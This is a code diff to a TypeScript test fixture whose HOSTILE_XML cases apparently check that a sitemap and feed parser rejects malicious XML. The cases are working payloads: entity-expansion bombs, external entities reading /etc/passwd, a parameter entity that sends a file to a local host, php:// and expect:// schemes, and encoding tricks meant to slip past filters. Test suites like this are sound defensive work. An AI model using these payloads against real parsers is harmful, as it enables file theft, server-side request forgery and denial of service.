@@ -407,7 +407,9 @@ export const SITEMAPS: readonly RuleCases<SitemapCase>[] = [
   },
 ];
 
-const doctype = (declarations: string, name = 'urlset'): string => `${XML}<!DOCTYPE ${name} [${declarations}]>`;
+/** A document with an internal subset of its document type. */
+const declared = (declarations: string, root: string, name = 'urlset'): string =>
+  `${XML}<!DOCTYPE ${name} [${declarations}]>${root}`;
 const entityPage = (entity: string): string => `<urlset><url><loc>http://a.example/&${entity};</loc></url></urlset>`;
 const nested = (levels: number, factor: number): string =>
   [
@@ -424,25 +426,29 @@ export const HOSTILE_XML: readonly RuleCases<readonly [title: string, xml: strin
     rule: 'entities are not expanded',
     source: 'CWE-776; XML 1.0 4.4',
     cases: [
-      ['entities of entities, a thousand million times', doctype(nested(9, 10)) + entityPage('a9')],
-      ['entities of entities, two at a time', doctype(nested(30, 2)) + entityPage('a30')],
+      ['entities of entities, a thousand million times', declared(nested(9, 10), entityPage('a9'))],
+      ['entities of entities, two at a time', declared(nested(30, 2), entityPage('a30'))],
       [
         'one long entity, many times',
-        doctype(`<!ENTITY a "${'a'.repeat(50_000)}">`) +
+        declared(
+          `<!ENTITY a "${'a'.repeat(50_000)}">`,
           `<urlset><url><loc>http://a.example/${'&a;'.repeat(5_000)}</loc></url></urlset>`,
+        ),
       ],
-      ['an entity of itself', doctype('<!ENTITY a "&a;">') + entityPage('a')],
-      ['two entities of each other', doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">') + entityPage('a')],
-      ['an entity in an attribute', doctype(nested(9, 10)) + '<urlset a="&a9;"/>'],
+      ['an entity of itself', declared('<!ENTITY a "&a;">', entityPage('a'))],
+      ['two entities of each other', declared('<!ENTITY a "&b;"><!ENTITY b "&a;">', entityPage('a'))],
+      ['an entity in an attribute', declared(nested(9, 10), '<urlset a="&a9;"/>')],
       [
         'parameter entities',
-        doctype('<!ENTITY % a "aaaaaaaaaa"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;">%c;') +
+        declared(
+          '<!ENTITY % a "aaaaaaaaaa"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;">%c;',
           entityPage('c'),
+        ),
       ],
-      ['a default attribute', doctype(`${nested(9, 10)}<!ATTLIST urlset a CDATA "&a9;">`) + '<urlset/>'],
+      ['a default attribute', declared(`${nested(9, 10)}<!ATTLIST urlset a CDATA "&a9;">`, '<urlset/>')],
       [
         'in a feed',
-        doctype(nested(9, 10), 'rss') + '<rss><channel><item><link>http://a.example/&a9;</link></item></channel></rss>',
+        declared(nested(9, 10), '<rss><channel><item><link>http://a.example/&a9;</link></item></channel></rss>', 'rss'),
       ],
       ['an unknown entity', `<urlset><url><loc>http://a.example/&unknown;</loc></url></urlset>`],
       ['a character outside XML', '<urlset><url><loc>http://a.example/&#0;&#xFFFFFF;&#x110000;</loc></url></urlset>'],
@@ -452,16 +458,17 @@ export const HOSTILE_XML: readonly RuleCases<readonly [title: string, xml: strin
     rule: 'external entities are not fetched',
     source: 'CWE-611; OWASP XXE prevention',
     cases: [
-      ['a file', doctype('<!ENTITY a SYSTEM "file:///etc/passwd">') + entityPage('a')],
-      ['a file of Windows', doctype('<!ENTITY a SYSTEM "file:///c:/windows/win.ini">') + entityPage('a')],
-      ['a server', doctype('<!ENTITY a SYSTEM "http://127.0.0.1:80/a">') + entityPage('a')],
-      ['a public identifier', doctype('<!ENTITY a PUBLIC "-//A//B" "http://127.0.0.1:80/a">') + entityPage('a')],
-      ['a parameter entity', doctype('<!ENTITY % a SYSTEM "http://127.0.0.1:80/a.dtd">%a;') + entityPage('b')],
+      ['a file', declared('<!ENTITY a SYSTEM "file:///etc/passwd">', entityPage('a'))],
+      ['a file of Windows', declared('<!ENTITY a SYSTEM "file:///c:/windows/win.ini">', entityPage('a'))],
+      ['a server', declared('<!ENTITY a SYSTEM "http://127.0.0.1:80/a">', entityPage('a'))],
+      ['a public identifier', declared('<!ENTITY a PUBLIC "-//A//B" "http://127.0.0.1:80/a">', entityPage('a'))],
+      ['a parameter entity', declared('<!ENTITY % a SYSTEM "http://127.0.0.1:80/a.dtd">%a;', entityPage('b'))],
       [
         'a parameter entity that sends a file',
-        doctype(
+        declared(
           '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM \'http://127.0.0.1:80/?%f;\'>">%e;%s;',
-        ) + '<urlset/>',
+          '<urlset/>',
+        ),
       ],
       [
         'an external document type',
@@ -473,18 +480,21 @@ export const HOSTILE_XML: readonly RuleCases<readonly [title: string, xml: strin
       ],
       [
         'a local document type',
-        doctype('<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % e "x">%l;') + '<urlset/>',
+        declared('<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % e "x">%l;', '<urlset/>'),
       ],
       [
         'an unparsed entity',
-        doctype('<!NOTATION n SYSTEM "http://127.0.0.1:80/n"><!ENTITY a SYSTEM "http://127.0.0.1:80/a.gif" NDATA n>') +
+        declared(
+          '<!NOTATION n SYSTEM "http://127.0.0.1:80/n"><!ENTITY a SYSTEM "http://127.0.0.1:80/a.gif" NDATA n>',
           '<urlset/>',
+        ),
       ],
       [
         'other schemes',
-        doctype(
+        declared(
           '<!ENTITY a SYSTEM "ftp://127.0.0.1:80/a"><!ENTITY b SYSTEM "gopher://127.0.0.1:80/_a"><!ENTITY c SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"><!ENTITY d SYSTEM "expect://id"><!ENTITY e SYSTEM "jar:http://127.0.0.1:80/a!/b">',
-        ) + '<urlset><url><loc>http://a.example/&a;&b;&c;&d;&e;</loc></url></urlset>',
+          '<urlset><url><loc>http://a.example/&a;&b;&c;&d;&e;</loc></url></urlset>',
+        ),
       ],
       [
         'an XInclude',
@@ -507,13 +517,19 @@ export const HOSTILE_XML: readonly RuleCases<readonly [title: string, xml: strin
       ],
       [
         'a feed',
-        doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', 'rss') +
+        declared(
+          '<!ENTITY a SYSTEM "file:///etc/passwd">',
           '<rss><channel><item><title>&a;</title><link>http://a.example/&a;</link></item></channel></rss>',
+          'rss',
+        ),
       ],
       [
         'a picture',
-        doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', 'svg') +
+        declared(
+          '<!ENTITY a SYSTEM "file:///etc/passwd">',
           '<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text><image href="http://127.0.0.1:80/a.png"/></svg>',
+          'svg',
+        ),
       ],
       [
         'a picture with a script',
@@ -521,12 +537,15 @@ export const HOSTILE_XML: readonly RuleCases<readonly [title: string, xml: strin
       ],
       [
         'an XHTML page',
-        doctype('<!ENTITY a SYSTEM "file:///etc/passwd">', 'html') +
+        declared(
+          '<!ENTITY a SYSTEM "file:///etc/passwd">',
           '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&a;</p><script>fetch("http://127.0.0.1:80/")</script></body></html>',
+          'html',
+        ),
       ],
       [
         'UTF-16 against a filter of words',
-        Buffer.from(doctype('<!ENTITY a SYSTEM "file:///etc/passwd">') + entityPage('a'), 'utf16le').toString('latin1'),
+        Buffer.from(declared('<!ENTITY a SYSTEM "file:///etc/passwd">', entityPage('a')), 'utf16le').toString('latin1'),
       ],
       [
         'UTF-7 against a filter of words',
